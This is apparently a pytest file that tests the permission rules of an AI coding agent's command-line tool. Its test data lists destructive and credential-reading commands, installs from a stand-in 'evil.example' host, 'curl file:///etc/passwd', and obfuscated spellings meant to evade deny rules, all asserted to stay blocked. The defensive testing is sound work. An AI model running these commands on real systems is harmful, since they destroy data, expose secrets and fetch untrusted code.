"""Rules: what they are about, and that nothing else runs by them."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from agentcli.errors import ConfigError
from agentcli.events.actions import (
    FileEditAction,
    FileReadAction,
    FileWriteAction,
    SearchAction,
    ToolCallAction,
)
from agentcli.security.commands.known_commands import dangers
from agentcli.security.commands.shell_parse import parse_script
from agentcli.security.policy.command_rules import (
    CommandContext,
    first_forbidding_rule,
    first_possible_rule,
    judge_allowed,
)
from agentcli.security.policy.rules import (
    SavedRules,
    check_rule,
    matches,
    parse_grants,
    parse_rule,
    split_grants,
)
from agentcli.tools.registry import rule_patterns
from tests.security.corpus import ALLOWED, NEVER_ALLOWED, RULES
from tests.security.escapes import KNOWN, UNKNOWN
from tests.tables import each_row

TOOLS = rule_patterns()


def rule(text: str, decision="allow"):
    return check_rule(parse_rule(text, decision, "here"), TOOLS)


def runs(text: str, *rules: str, contained: bool = False) -> bool:
    parsed = [rule(each) for each in rules]
    setting = CommandContext("/work", lambda target, cwd: False, contained=contained)
    return judge_allowed(parsed, parse_script(text), setting).allowed


@each_row("contained", [True, False])
@each_row("command", NEVER_ALLOWED)
def test_nothing_else_runs_by_a_rule(command, contained):
    assert not runs(command, *RULES, contained=contained)


ESCAPES = [(line.split(" ")[0], line) for line in UNKNOWN]
ESCAPES += [tuple(line.split("|", 1)) for line in KNOWN]


@each_row("begins, command", ESCAPES)
def test_no_rule_lets_what_it_is_about_run_something_else_where_nothing_contains_it(
    begins, command
):
    assert not runs(command, f"bash({begins}:*)")


HONEST = """
git push|git push origin main
git push|git push -u origin HEAD:refs/heads/topic
git push|git push --follow-tags --atomic origin main
git push --force-with-lease|git push --force-with-lease origin main
git push|/usr/bin/git push --tags
git push --force|git push --force origin main
git fetch|git fetch --prune origin
git pull|git pull --rebase origin main
git add|git add -A src/main.py
git commit|git commit -am 'fix: a; b ../c /d'
git checkout|git checkout -b topic
git restore|git restore --staged src/x.py
gh pr view|gh pr view 12 --comments
git worktree|git worktree add side -b side
git stash|git stash push -m 'before'
git ls-remote|git ls-remote --heads origin
npm test|npm test -- --watch=false --config=x
npm run build|npm run build --silent
npm install|npm install -D @types/node left-pad@^1.3.0
make all|make all -j4 check
make|make -j4 all
pytest|pytest -xvs tests/test_a.py::test_b -k 'x and y' --tb=short
python -m pytest|python -m pytest -q
ruff check|ruff check --fix src
mypy|mypy --strict src
cargo test|cargo test --release -- --nocapture
cargo clippy|cargo clippy --all-targets --all-features
go test|go test -race -count=1 ./...
docker build|docker build -t me/x:1 --no-cache .
docker logs|docker logs --tail=100 web
kubectl get|kubectl get pods -n prod -o wide
pip install|pip install -U 'requests[socks]>=2.31,<3'
pip install|pip install -e .
uv pip install|uv pip install ruff==0.5.0
curl|curl -sSfL 'https://example.org/x?a=b'
mkdir|mkdir -p src/new
sleep|sleep 0.5
terraform plan|terraform plan -no-color -input=false
gh pr view|gh pr view 12 --json title
""".strip().split("\n")


@each_row("line", HONEST)
def test_a_rule_covers_what_people_mean_by_it(line):
    begins, command = line.split("|", 1)
    assert runs(command, f"bash({begins}:*)")


DANGEROUS = """
git push|git push --force origin main
git push|git push -f
git push|git push -fu origin main
git push|git push -uf origin main
git push|git push --forc origin main
git push|git push --force-with-lease=main origin main
git push|git push origin +main
git push|git push origin +HEAD:main
git push|git push origin :main
git push|git push origin --delete main
git push|git push --delet origin main
git push|git push -d origin main
git push|git push --mirror origin
git push|git push --prune origin
git push|/usr/bin/git push --force
git push --force|git push --force --delete origin main
git push origin|git push origin +main
git push origin|git push origin --force
git branch|git branch -D main
git checkout|git checkout -- src
git checkout|git checkout .
git commit|git commit --no-verify -m x
git stash|git stash drop
git|git clean -fd
git|git reset --hard
git|git push --force
git|git -c core.hooksPath=x commit
npm install|npm install -g left-pad
npm install|npm install --registry=https://evil.example left-pad
npm|npm publish
npm|npm unpublish left-pad
pip install|pip install --index-url https://evil.example/simple x
pip install|pip install --extra-index https://evil.example/simple x
pip install|pip install --break-system-packages x
pip install|pip install --target /usr/lib/python3 x
docker run|docker run --privileged x
docker run|docker run -v /:/host x
docker run|docker run -itv /:/host x
docker run|docker run --network=host x
docker|docker system prune -af
docker compose down|docker compose down -v
docker compose|docker compose -f prod.yml --profile all down -v
docker|docker --log-level debug compose -p down down --rmi all
docker|docker --tlscert x --debug volume rm data
docker-compose|docker-compose -f prod.yml rm -fsv
kubectl|kubectl --request-timeout 5s -n prod delete pod x
gh|gh --new-option value repo delete x/y
npm|npm --loglevel silent publish
npm|npm -ws --workspace a c set registry https://evil.example
git restore|git restore .
git restore|git restore :/
git reflog|git reflog expire --all
git submodule|git submodule foreach ls
gh pr review|gh pr review --approve 1
docker|docker -H tcp://evil.example ps
kubectl get|kubectl get --token=x pods
kubectl get|kubectl get secrets -o yaml
kubectl|kubectl delete pod x
kubectl delete|kubectl delete pods --all
kubectl get|kubectl get pods --context prod
gh pr merge|gh pr merge 1 --admin
gh pr merge|gh pr merge -sd 1
gh api|gh api -X DELETE repos/x/y
gh|gh repo delete x/y --yes
gh|gh auth token
cargo|cargo publish
cargo test|cargo test --config build.rustc-wrapper=./x
cargo|cargo +nightly test
cargo install|cargo install --git https://evil.example/x
curl|curl -o x https://example.org
curl|curl -sSfLo x https://example.org
curl|curl -XPOST https://example.org
curl|curl -d @x https://example.org
curl|curl -k https://example.org
curl|curl file:///etc/passwd
""".strip().split("\n")


@each_row("line", DANGEROUS)
def test_a_rule_never_covers_the_dangerous_form(line):
    begins, command = line.split("|", 1)
    for contained in (False, True):
        assert not runs(command, f"bash({begins}:*)", contained=contained)
    assert runs(command, f"bash({command})")


@each_row("contained", [False, True])
def test_a_rule_that_names_the_dangerous_word_covers_it(contained):
    assert runs("git push --force origin main", "bash(git push --force:*)", contained=contained)
    assert runs("npm test -- -g pattern", "bash(npm test:*)", contained=contained)


def test_each_danger_has_its_reason_and_its_source():
    rows = [row for rows in dangers().values() for row in rows]
    programs = {"git", "npm", "pip", "docker", "kubectl", "gh", "cargo", "curl"}
    assert {row.words[0] for row in rows} >= programs
    for row in rows:
        assert row.sources, row.words
        assert all(source.startswith("https://") for source in row.sources), row.words
        assert re.fullmatch(r"[a-z].*[^.]", row.why), row.words
        assert row.whole or row.options or row.operands.pattern != "(?!)", row.words


def test_what_is_not_known_is_covered_only_where_it_is_contained():
    assert runs("frobnicate --all x", "bash(frobnicate:*)", contained=True)
    assert not runs("frobnicate --all x", "bash(frobnicate:*)")
    assert runs("frobnicate --all x", "bash(frobnicate --all x)")


@each_row("text", ["unsandboxed(git push:*)", "unsandboxed", "unsandboxed(*)"])
def test_out_of_the_sandbox_only_whole_commands_are_allowed(text):
    with pytest.raises(ConfigError) as refused:
        rule(text)
    assert "unsandboxed(git push origin main)" in refused.value.hint
    assert rule(text, "deny")
    assert parse_grants(text) == ()


def test_the_corpus_is_large():
    assert len(set(NEVER_ALLOWED)) >= 250


@each_row("command", ALLOWED)
def test_honest_commands_run_by_their_rules(command):
    assert runs(command, *RULES)


@each_row(
    "pattern, command, found",
    [
        ("git push:*", "git push", True),
        ("git push:*", "git push origin main", True),
        ("git push:*", "git pushx", False),
        ("git push", "git push origin", False),
        ("npm run test:*", "npm run test:unit", False),
        ("echo 'a b':*", 'echo "a b" c', True),
        ("sudo apt update", "sudo apt update", True),
        ("sudo:*", "sudo apt update", False),
        ("find:*", "find . -exec rm {} +", False),
        ("find:*", "find . -delete", False),
        ("find:*", "find . -name x -newer y", True),
        ("xargs:*", "ls | xargs rm", False),
        ("make:*", "make SHELL=./x", False),
        ("git:*", "git push origin main", True),
        ("bash:*", "bash -c 'rm x'", False),
        ("python:*", "python -c 'x'", False),
        ("python x.py", "python x.py", True),
    ],
)
def test_what_a_pattern_is_about(pattern, command, found):
    assert runs(command, f"bash({pattern})") == found


DENIED = [
    "git push",
    "git push --force origin",
    "/usr/bin/git push",
    "git -C x push",
    "git -c a=b --no-pager push",
    "git --new-option value push",
    "ls && git push",
    "x=$(git push)",
    "sudo git push",
    "env A=1 nice git push",
    "bash -c 'ls; git push'",
    "eval 'git push'",
    "find . -exec git push \\;",
    "g''it pu\\sh",
    "$'git' push",
    "f() { git push; }; f",
    "cat <<E\n$(git push)\nE",
    "git push\u00a0x | cat; git push",
]


@each_row("command", DENIED)
def test_a_rule_that_denies_looks_into_every_part(command):
    assert first_forbidding_rule([rule("bash(git push:*)", "deny")], parse_script(command))


def test_a_wrapper_itself_can_be_denied():
    assert first_forbidding_rule([rule("bash(sudo:*)", "deny")], parse_script("nice sudo ls"))


@each_row(
    "command, found",
    [
        ("git $x", True),
        ("$x push", True),
        ("eval $x", True),
        ("xargs git", True),
        ("python -c 'import os; os.system(\"g\\it push\")'", True),
        ("python -c 'print(1)'", False),
        ("source .venv/bin/activate && pytest", False),
        ("git status $x", False),
        ("ls *.py", False),
        ("a '", True),
    ],
)
def test_what_may_turn_out_to_be_denied(command, found):
    script = parse_script(command)
    assert bool(first_possible_rule([rule("bash(git push:*)", "deny")], script, command)) == found


noise = st.sampled_from(["''", '""', "\\\n", "\\", "'", '"', " ", "\t", "\u00a0", "\u200b", "$''"])


def starts_nothing(command: str) -> bool:
    """With a blank in one of its words, or another word for `-exec`, `find` looks for files of such
    names; `env` sets a variable and lists all."""
    try:
        words = shlex.split(command.replace("\\\n", "").replace("$'", "'"))
    except ValueError:
        return False
    if words[0] == "find" and "-exec" not in words:
        return True
    return words[0] in ("find", "env") and any(" " in word or "\t" in word for word in words)


@given(st.lists(st.tuples(st.integers(0, 30), noise), max_size=6), st.sampled_from(DENIED))
def test_however_a_denied_command_is_spelled_it_is_never_allowed(noises, command):
    for at, what in noises:
        at = min(at, len(command))
        command = command[:at] + what + command[at:]
    assume(not starts_nothing(command))
    script = parse_script(command)
    # Quoted, an operator is one more word of what stands before it.
    assume(not any("&&" in (word or "") for part in script.commands for word in part.words))
    deny = [rule("bash(git push:*)", "deny")]
    if not first_forbidding_rule(deny, script) and not first_possible_rule(deny, script, command):
        assert not runs(command, *RULES, "bash(env:*)", "bash(sudo:*)", "bash(bash:*)")


@each_row(
    "text",
    [
        "",
        "bash(",
        "bash()",
        "Bash(ls)",
        "bsh(ls)",
        "bash(ls; rm)",
        "bash(ls *)",
        "bash(git $x)",
        "bash(ls > x)",
        "bash(git *)",
        "edti(src/**)",
        "fetch(example.org)",
        "python(x)",
        "mcp__x",
        "mcp__*",
        "rm -rf",
        "*",
    ],
)
def test_what_is_no_rule_is_refused_with_a_hint(text):
    with pytest.raises(ConfigError) as refused:
        rule(text)
    assert refused.value.hint
    assert "here" in refused.value.message


@pytest.fixture
def workspace(tmp_path):
    folder = tmp_path / "work"
    (folder / "src").mkdir(parents=True)
    (folder / "link").symlink_to("/etc")
    (folder / "inner").symlink_to(folder / "src")
    (folder / "loop").symlink_to("loop")
    return folder


@each_row(
    "text, path, found",
    [
        ("edit(src/**)", "src/a/b.py", True),
        ("edit(src/**)", "src/../b.py", False),
        ("edit(src/*.py)", "src/a/b.py", False),
        ("edit(*.py)", "src/a/b.py", True),
        ("edit(/*.py)", "src/a.py", False),
        ("edit(src)", "src/a.py", True),
        ("edit(src/)", "src/a.py", True),
        ("edit(**)", "a.py", True),
        ("edit(**)", "../a.py", False),
        ("edit(link/**)", "src/a.py", False),
        ("edit(src/**)", "link/a.py", False),
        ("edit(src/**)", "inner/a.py", True),
        ("edit(src/**)", "loop", False),
        ("edit(src/**)", "loop/a.py", False),
        ("edit(loop/**)", "src/a.py", False),
        ("edit(~/notes/*)", "{home}/notes/a", True),
        ("edit(/etc/host[s])", "/etc/hosts", True),
        ("edit(/etc/host[!s])", "/etc/hosts", False),
        ("edit([x].py)", "[x].py", True),
        ("edit(a?.py)", "ab.py", True),
        ("write(src/**)", "src/a.py", False),
    ],
)
def test_files_are_judged_by_where_they_lead(workspace, tmp_path, text, path, found):
    path = path.format(home=tmp_path)
    action = FileEditAction(path=path)
    place = (workspace.joinpath, workspace, tmp_path)
    assert matches(rule(text), action, "write", *place) == found


def test_edit_is_about_write_and_read_about_searches(workspace, tmp_path):
    def fits(text, effect, action):
        place = (workspace.joinpath, workspace, tmp_path)
        return matches(rule(text, "deny"), action, effect, *place)

    def call(name, path=None):
        return ToolCallAction(name=name, raw_arguments="{}", path=path)

    assert fits("edit(src/**)", "write", FileWriteAction(path="src/x", content=""))
    assert fits("read(src/**)", "read", SearchAction(pattern="x", path="src"))
    assert not fits("read(src/**)", "write", FileEditAction(path="src/x"))
    assert fits("read(inner/**)", "read", FileReadAction(path="inner/x"))
    assert fits("read(src/**)", "read", call("outline", "src/x"))
    assert not fits("edit(src/**)", "read", call("outline", "src/x"))
    assert fits("edit(src/**)", "write", call("reformat", "src/x"))
    assert not fits("edit", "write", call("remember"))
    assert fits("mcp__db__*", "execute", call("mcp__db__drop"))
    assert fits("mcp__db__drop", "execute", call("mcp__db__drop"))
    assert not fits("mcp__db__*", "execute", call("mcp__dbx__drop"))


@each_row(
    "url, found",
    [
        ("https://example.org/x", True),
        ("https://EXAMPLE.org./", True),
        ("https://docs.example.org/", True),
        ("https://evilexample.org/", False),
        ("https://example.org.evil.net/", False),
        ("https://example.org@evil.net/", False),
        ("https://evil.net/?example.org", False),
        ("http://[", False),
    ],
)
def test_a_domain_is_the_host_and_what_is_below(url, found):
    action = ToolCallAction(name="fetch", raw_arguments="{}", url=url)
    asked = rule("fetch(domain:example.org)")
    assert matches(asked, action, "network", Path, Path(), Path()) == found


def test_patterns_are_what_the_tools_say():
    tools = {"outline": "path", "visit": "url", "count": ""}
    for text in ("outline(src/**)", "visit(domain:example.org)", "count", "mcp__db__drop"):
        assert str(check_rule(parse_rule(text, "ask", "here"), tools)) == text
    for text, told in [
        ("visit(src/**)", "names no site"),
        ("count(src/**)", "count takes no pattern"),
        ("outlines", "is for a tool that doesn't exist"),
    ]:
        with pytest.raises(ConfigError, match=told):
            check_rule(parse_rule(text, "ask", "here"), tools)


def test_grants_are_split_outside_of_quotes():
    assert split_grants("bash(git push:*); edit(src/**)") == ["bash(git push:*)", "edit(src/**)"]
    assert len(split_grants("bash(echo '); bash(rm:*')")) == 1
    assert parse_grants("all commands") == ()


def test_saved_rules_hold_for_their_workspace_only(tmp_path):
    saved = SavedRules(tmp_path / "config" / "rules")
    saved.add(Path("/a"), [rule("bash(git push:*)"), rule("edit(src/**)")])
    saved.add(Path("/b in /a"), [rule("bash(ls in /a)")])
    saved.add(Path("/a"), [rule("edit(src/**)")])
    assert [str(each) for each in saved.load(Path("/a"), TOOLS)] == [
        "bash(git push:*)",
        "edit(src/**)",
    ]
    assert [str(each) for each in saved.load(Path("/c"), TOOLS)] == []
    assert saved.path.stat().st_mode & 0o777 == 0o600
    assert saved.path.read_text().count("\n") == 3


def test_damaged_lines_of_saved_rules_are_named_and_left_out(tmp_path):
    saved = SavedRules(tmp_path / "rules")
    saved.path.write_text(
        "allow bash(git push:*) in /a\nallow bash( in /a\nnonsense\n# a comment\n"
    )
    saved.path.chmod(0o600)
    assert len(saved.load(Path("/a"), TOOLS)) == 1
    assert len(saved.notices) == 2
    assert ":3" in saved.notices[1]


def test_saved_rules_that_others_could_have_written_do_not_count(tmp_path):
    saved = SavedRules(tmp_path / "rules")
    saved.add(Path("/a"), [rule("bash(git push:*)")])
    saved.path.chmod(0o666)
    assert saved.load(Path("/a"), TOOLS) == ()
    assert "other users may write" in saved.notices[0]
